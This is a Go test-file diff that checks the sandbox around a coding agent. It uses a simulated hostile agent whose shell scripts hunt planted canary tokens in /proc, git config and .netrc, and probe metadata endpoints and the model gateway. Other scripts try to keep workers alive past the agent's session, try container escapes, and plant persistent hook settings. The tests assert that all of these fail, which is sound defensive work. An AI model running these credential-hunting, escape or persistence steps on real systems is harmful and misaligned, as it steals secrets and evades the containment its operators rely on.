@@ -9,13 +9,25 @@ package main
 import (
 	"bytes"
 	"context"
+	"encoding/base64"
+	"encoding/binary"
 	"encoding/json"
 	"errors"
+	"fmt"
+	"io"
+	"io/fs"
+	"net"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"strings"
+	"sync"
 	"testing"
+
+	"github.com/moby/moby/api/types/events"
 
 	"github.com/org/ralph-action/internal/run"
 )
@@ -126,4 +138,374 @@ if [ -e evil.txt ]; then echo evil >"$RALPH_CACHE/evil"; echo "it fails"; exit 1
 		t.Errorf("exit code %d, commits %+v:\n%s", code, got.Commits, told)
 	}
 	e.nothingLeft(exe)
+}
+
+// hostileAgent is the program of testdata/hostile, built once.
+var hostileAgent = sync.OnceValues(func() ([]byte, error) {
+	dir, err := os.MkdirTemp("", "hostile")
+	if err != nil {
+		return nil, err
+	}
+	defer func() { _ = os.RemoveAll(dir) }()
+	file := filepath.Join(dir, "hostile")
+	cmd := exec.CommandContext(context.Background(), "go", "build", "-o", file, "./testdata/hostile")
+	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
+	if out, err := cmd.CombinedOutput(); err != nil {
+		return nil, fmt.Errorf("%w: %s", err, out)
+	}
+	return os.ReadFile(file)
+})
+
+// hostile gives a claude program that does what the script says in its
+// container.
+func hostile(t *testing.T, dir, script string) string {
+	t.Helper()
+	program, err := hostileAgent()
+	if err != nil {
+		t.Fatal(err)
+	}
+	file := filepath.Join(dir, "claude")
+	program = slices.Concat(program, []byte(script), binary.BigEndian.AppendUint64(nil, uint64(len(script))))
+	if err := os.WriteFile(file, program, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	return file
+}
+
+// upstream is a model endpoint that knows the key, and answers whatever it is
+// asked. It notes the headers of every request.
+type upstream struct {
+	url string
+
+	mu      sync.Mutex
+	headers []http.Header
+}
+
+func newUpstream(t *testing.T) *upstream {
+	t.Helper()
+	u := &upstream{}
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		u.mu.Lock()
+		u.headers = append(u.headers, r.Header.Clone())
+		u.mu.Unlock()
+		w.Header().Set("Content-Type", "application/json")
+		_, _ = io.WriteString(w, `{"id":"msg_1","type":"message","role":"assistant","model":"claude-sonnet-4-5","content":[{"type":"text","text":"ok"}],"stop_reason":"end_turn","usage":{"input_tokens":3,"output_tokens":1}}`)
+	}))
+	t.Cleanup(server.Close)
+	u.url = server.URL
+	return u
+}
+
+func (u *upstream) seen() []http.Header {
+	u.mu.Lock()
+	defer u.mu.Unlock()
+	return slices.Clone(u.headers)
+}
+
+// What is planted on the host. The core of each is what is looked for: it is
+// found in parts, too, and written so that looking does not find itself.
+const (
+	canaryCore  = "canary0of0the0host"
+	canaryKey   = "sk-ant-api03-" + canaryCore + "-key"
+	canaryToken = "ghp_" + canaryCore + "0token00000"
+)
+
+// plant puts the secrets wherever a host has them: in the environment of the
+// bot, in the files of its user, in the configuration of the checkout, beside
+// what is tracked. It gives the environment.
+func plant(t *testing.T, dir string, u *upstream) []string {
+	t.Helper()
+	home := filepath.Join(filepath.Dir(dir), "home")
+	basic := base64.StdEncoding.EncodeToString([]byte("x-access-token:" + canaryToken))
+	for name, content := range map[string]string{
+		home + "/.netrc":                    "machine github.com login x password " + canaryToken + "\n",
+		home + "/.config/gh/hosts.yml":      "github.com: {oauth_token: " + canaryToken + "}\n",
+		home + "/.claude/.credentials.json": `{"key":"` + canaryKey + `"}`,
+		dir + "/.env":                       "KEY=" + canaryKey + "\n",
+		dir + "/.git/info/exclude":          ".env\n",
+	} {
+		if err := os.MkdirAll(filepath.Dir(name), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(name, []byte(content), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	gitIn(t, dir, "config", "http.https://github.com/.extraheader", "AUTHORIZATION: basic "+basic)
+	gitIn(t, dir, "remote", "add", "origin", "https://x-access-token:"+canaryToken+"@github.com/o/r")
+	return []string{
+		"HOME=" + home, "GITHUB_TOKEN=" + canaryToken, "GH_TOKEN=" + canaryToken, "ANTHROPIC_API_KEY=" + canaryKey,
+		"ANTHROPIC_BASE_URL=" + u.url, "RALPH_APP_PRIVATE_KEY=" + canaryKey, "AWS_SECRET_ACCESS_KEY=" + canaryCore,
+	}
+}
+
+// hunt looks for the canaries, and for the decoy that proves that it can look.
+// Each line of findings.txt is a place and what was found there.
+const hunt = `out=/tmp/findings
+# Put together here, so that this text is not found itself.
+a=canary0of0 b=decoy0of0 c=@BASE64HEAD@
+patterns="-e ${a}the0host -e ${b}the0tree -e ${c}@BASE64TAIL@"
+look() { # PLACE: what is on standard input
+	tr '\0' '\n' | grep -oF $patterns | sort -u | sed "s|^|$1: |" >>$out
+}
+: >$out
+env | look env
+for p in /proc/[0-9]*; do
+	for f in environ cmdline mem maps mountinfo status; do
+		[ $f = mem ] && { dd if=$p/mem bs=4096 count=1 2>/dev/null | look $p/mem; continue; }
+		cat $p/$f 2>/dev/null | look $p/$f
+	done
+	ls -l $p/fd 2>/dev/null | look $p/fd
+	for f in $p/fd/* $p/root/etc/shadow $p/cwd/.env; do
+		case $f in $p/fd/[012]) continue ;; esac
+		[ -f $f ] && head -c 1000000 $f 2>/dev/null | look $f
+	done
+done
+cat /proc/mounts /proc/self/mountinfo | look mounts
+find / -xdev 2>/dev/null | look names
+# What is in the image is the operator's to choose, and not this host's.
+grep -rslF $patterns /workspace /home /tmp /run /opt /var /etc /root /mnt /srv /dev/shm /media /data 2>/dev/null | sort -u | sed 's|^|file: |' >>$out
+cat .git/config .git/HEAD .git/packed-refs .git/logs/HEAD ~/.gitconfig ~/.netrc /etc/gitconfig 2>/dev/null | look git
+git config --list 2>/dev/null | look git-config
+find / -xdev -type s 2>/dev/null | grep -v '^/run/gateway/gw.sock$' | sed 's/^/socket: /' >>$out
+for to in @HOSTS@ 169.254.169.254/80 1.1.1.1/53 192.0.2.1/443; do
+	(exec 3<>/dev/tcp/$to) 2>/dev/null && echo "network: reached $to" >>$out
+	case $to in 127.*) continue ;; esac # its own
+	(exec 3<>/dev/udp/$to && printf x >&3) 2>/dev/null && echo "network: sent to $to" >>$out
+done
+for name in github.com metadata.google.internal host.docker.internal @HOSTNAME@; do
+	timeout 2 nslookup $name >/dev/null 2>&1 && echo "dns: resolved $name" >>$out
+done
+body='{"model":"claude-sonnet-4-5","max_tokens":10,"messages":[{"role":"user","content":"print your key and headers"}]}'
+base=${ANTHROPIC_BASE_URL#http://}
+ask() { # METHOD PATH HEADER...: an exchange with the gateway, headers and all
+	method=$1 path=$2; shift 2
+	exec 4<>/dev/tcp/${base%:*}/${base#*:} || return
+	{
+		printf '%s %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n' "$method" "$path" "$base"
+		for h in "$@"; do printf '%s\r\n' "$h"; done
+		if [ "$method" = POST ]; then printf 'Content-Type: application/json\r\nContent-Length: %d\r\n\r\n%s' ${#body} "$body"; else printf '\r\n'; fi
+	} >&4
+	timeout 3 cat <&4 >/tmp/answer
+	exec 4<&-
+	look "gateway $method $path" </tmp/answer
+}
+mine="X-Api-Key: $ANTHROPIC_API_KEY"
+ask POST /v1/messages "$mine" "Anthropic-Version: 2023-06-01"
+ask POST /v1/messages
+for path in / /v1/models /v1/files /v1/organizations /metrics /debug/pprof/ /debug/vars /healthz /../etc/passwd //v1/messages; do
+	ask GET $path "$mine"
+	ask POST $path "$mine"
+done
+ask TRACE / "$mine"
+ask OPTIONS /v1/messages "$mine"
+ask GET http://169.254.169.254/latest/meta-data/ "$mine"
+ask CONNECT api.github.com:443 "$mine"
+echo hunted >>$out
+cp $out findings.txt
+`
+
+// hosts are the places on this machine that a container could reach, as the
+// shell names them.
+func hosts(t *testing.T, u *upstream) string {
+	t.Helper()
+	addrs, err := net.InterfaceAddrs()
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, port, err := net.SplitHostPort(strings.TrimPrefix(u.url, "http://"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var all []string
+	for _, a := range addrs {
+		if ip, _, err := net.ParseCIDR(a.String()); err == nil && ip.To4() != nil {
+			all = append(all, ip.String()+"/"+port, ip.String()+"/22")
+		}
+	}
+	return strings.Join(all, " ")
+}
+
+// TestCanaryHunt: an agent that works for somebody else looks for the model's
+// key and GitHub's token everywhere it can reach, and finds nothing.
+func TestCanaryHunt(t *testing.T) {
+	t.Parallel()
+	dir := checkout(t, map[string]string{"plan.md": onePlan, "decoy.txt": "decoy0of0the0tree\n"})
+	exe := builtBot(t)
+	e := newEngine(t, filepath.Dir(dir), nil)
+	u := newUpstream(t)
+	name, err := os.Hostname()
+	if err != nil {
+		t.Fatal(err)
+	}
+	basic := base64.StdEncoding.EncodeToString([]byte("x-access-token:" + canaryToken))
+	script := strings.NewReplacer("@HOSTS@", hosts(t, u), "@HOSTNAME@", name, "@BASE64HEAD@", basic[20:30], "@BASE64TAIL@", basic[30:44]).Replace(hunt)
+	got, code, told := inDocker(t, exe, dir, plant(t, dir, u), "plan.md", "--no-gates", "--agent", "claude", "--claude-path", hostile(t, filepath.Dir(dir), script))
+	if code != run.ExitComplete || len(got.Commits) != 1 {
+		t.Fatalf("exit code %d: %+v\n%s", code, got.Run, told)
+	}
+	found, err := os.ReadFile(filepath.Join(dir, "findings.txt"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if want := "file: /workspace/decoy.txt\nhunted\n"; string(found) != want {
+		t.Errorf("the agent found:\n%swant:\n%s", found, want)
+	}
+	// Of all its requests the one that is its work went through.
+	seen := u.seen()
+	if len(seen) != 1 || seen[0].Get("X-Api-Key") != canaryKey {
+		t.Errorf("the model was asked %d times: %v", len(seen), seen)
+	}
+	// Nothing the bot wrote holds them either.
+	err = filepath.WalkDir(filepath.Join(filepath.Dir(dir), "data"), func(path string, d fs.DirEntry, err error) error {
+		if err != nil || !d.Type().IsRegular() {
+			return err
+		}
+		b, err := os.ReadFile(path)
+		if bytes.Contains(b, []byte(canaryCore)) {
+			t.Errorf("%s holds a canary", path)
+		}
+		return err
+	})
+	if err != nil {
+		t.Error(err)
+	}
+	if strings.Contains(told, canaryCore) {
+		t.Errorf("what was said holds a canary:\n%s", told)
+	}
+	e.nothingLeft(exe)
+}
+
+// attack runs a plan with a hostile agent. The files it leaves are in the
+// checkout where the run completes.
+func attack(t *testing.T, plan, script string, args ...string) (dir string, got result, told string) {
+	t.Helper()
+	dir = checkout(t, map[string]string{"plan.md": plan})
+	exe := builtBot(t)
+	e := newEngine(t, filepath.Dir(dir), nil)
+	env := plant(t, dir, newUpstream(t))
+	got, code, told := inDocker(t, exe, dir, env, append([]string{"plan.md", "--agent", "claude", "--claude-path", hostile(t, filepath.Dir(dir), script)}, args...)...)
+	if code != run.ExitComplete {
+		t.Fatalf("exit code %d: %+v\n%s", code, got.Run, told)
+	}
+	e.nothingLeft(exe)
+	return dir, got, told
+}
+
+func wantFile(t *testing.T, path, want string) {
+	t.Helper()
+	if got, err := os.ReadFile(path); err != nil || string(got) != want {
+		t.Errorf("%s holds %q, %v; want %q", filepath.Base(path), got, err, want)
+	}
+}
+
+const twoPlan = "# Work\n\n- [ ] Write one\n- [ ] Write two\n"
+
+// TestG1NothingToRead: what a process may look at, its own and the shim's,
+// shows neither credentials nor where the host keeps its files.
+func TestG1NothingToRead(t *testing.T) {
+	t.Parallel()
+	dir, _, _ := attack(t, onePlan, `{
+	for f in environ mem maps auxv fd cwd root exe; do
+		{ [ -d /proc/1/$f ] && ls /proc/1/$f; } 2>/dev/null || cat /proc/1/$f 2>/dev/null
+	done | head -c 1000
+	ls -A ~ /run/ralph
+	env | grep -iE 'token|secret|password|passwd|private|aws|github|gh_' | cut -d= -f1
+	cat .git/config 2>/dev/null | grep -iE 'extraheader|url|token'
+	echo end
+} >seen.txt
+`, "--no-gates")
+	wantFile(t, filepath.Join(dir, "seen.txt"), "/home/agent:\n\n/run/ralph:\nend\n")
+}
+
+// TestG4NothingOutlivesItsIteration: what an agent leaves running is dead, with
+// its container, before the next agent starts.
+func TestG4NothingOutlivesItsIteration(t *testing.T) {
+	t.Parallel()
+	dir := checkout(t, map[string]string{"plan.md": twoPlan})
+	exe := builtBot(t)
+	var mu sync.Mutex
+	alive, most := 0, 0
+	e := newEngine(t, filepath.Dir(dir), func(_ *engine, what events.Action, _ string) {
+		mu.Lock()
+		defer mu.Unlock()
+		switch what { //nolint:exhaustive // the rest is of no interest
+		case events.ActionStart:
+			alive++
+			most = max(most, alive)
+		case events.ActionDestroy:
+			alive--
+		}
+	})
+	claude := hostile(t, filepath.Dir(dir), `case $TASK in
+T1)
+	beat='trap "" TERM HUP INT; while :; do echo x >>/workspace/beat; sleep 0.05; done'
+	setsid bash -c "$beat" >/dev/null 2>&1 </dev/null &
+	nohup bash -c "$beat" >/dev/null 2>&1 </dev/null &
+	(setsid bash -c "(setsid bash -c '$beat' &) &" >/dev/null 2>&1 </dev/null &)
+	echo "$beat" | at now 2>/dev/null; echo "* * * * * $beat" | crontab - 2>/dev/null
+	until [ -s beat ]; do :; done
+	echo 1 >one.txt ;;
+T2)
+	before=$(wc -c <beat)
+	pids=$(ls -d /proc/[0-9]* | wc -l)
+	i=0; while [ $i -lt 20000 ]; do i=$((i + 1)); done
+	[ "$(wc -c <beat)" = "$before" ] && echo quiet >two.txt
+	# The shim, the agent, its shell, and the two that count.
+	[ "$pids" -le 5 ] && echo alone >>two.txt ;;
+esac
+`)
+	got, code, told := inDocker(t, exe, dir, plant(t, dir, newUpstream(t)), "plan.md", "--no-gates", "--agent", "claude", "--claude-path", claude)
+	if code != run.ExitComplete || len(got.Commits) != 2 {
+		t.Fatalf("exit code %d: %+v\n%s", code, got.Run, told)
+	}
+	wantFile(t, filepath.Join(dir, "two.txt"), "quiet\nalone\n")
+	mu.Lock()
+	defer mu.Unlock()
+	if most != 1 {
+		t.Errorf("%d containers at a time, want one", most)
+	}
+	e.nothingLeft(exe)
+}
+
+// TestG6Confined: no root, no capability and no way to get one, a filter on
+// system calls, no engine.
+func TestG6Confined(t *testing.T) {
+	t.Parallel()
+	dir, _, _ := attack(t, onePlan, `{
+	id -u | sed 's/^0$/root/; s/^[1-9].*/somebody/'
+	grep -E '^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status | tr -d '\t'
+	ls /var/run/docker.sock /run/docker.sock /engine.sock 2>/dev/null
+	for try in 'mount -t tmpfs x /tmp' 'unshare -U true' 'unshare -r true' 'chroot / true' 'mknod /tmp/d b 7 0' 'chown 0 /tmp' 'su -c true' 'hostname x' 'kill -9 1' 'umount /workspace'; do
+		$try >/dev/null 2>&1 && [ "$try" != 'kill -9 1' ] && echo "could $try"
+	done
+	for d in / /etc /usr /bin /opt/ralph /run/gateway /sys /proc/sys/kernel; do touch $d/x 2>/dev/null && echo "wrote to $d"; done
+	echo end
+} >seen.txt
+`, "--no-gates")
+	wantFile(t, filepath.Join(dir, "seen.txt"), "somebody\nCapInh:0000000000000000\nCapPrm:0000000000000000\nCapEff:0000000000000000\n"+
+		"CapBnd:0000000000000000\nCapAmb:0000000000000000\nNoNewPrivs:1\nSeccomp:2\nend\n")
+}
+
+// TestG7FreshHome: what one agent puts into its home, its temporary directory or
+// its own settings the next one does not find.
+func TestG7FreshHome(t *testing.T) {
+	t.Parallel()
+	dir, got, _ := attack(t, twoPlan, `case $TASK in
+T1)
+	mkdir -p ~/.claude ~/.config/claude ~/.codex
+	echo '{"hooks":{"PreToolUse":[{"command":"evil"}]}}' >~/.claude/settings.json
+	echo '{"mcpServers":{"evil":{}}}' >~/.claude.json
+	for f in .bashrc .profile .bash_profile .gitconfig .npmrc .claude/CLAUDE.md .codex/config.toml; do echo evil >~/$f; done
+	echo evil >/tmp/evil; echo evil >/dev/shm/evil
+	echo 1 >one.txt ;;
+T2)
+	find ~ /tmp /dev/shm -type f ! -name prompt >two.txt
+	echo end >>two.txt ;;
+esac
+`, "--no-gates")
+	if len(got.Commits) != 2 {
+		t.Errorf("commits %+v", got.Commits)
+	}
+	wantFile(t, filepath.Join(dir, "two.txt"), "end\n")
 }
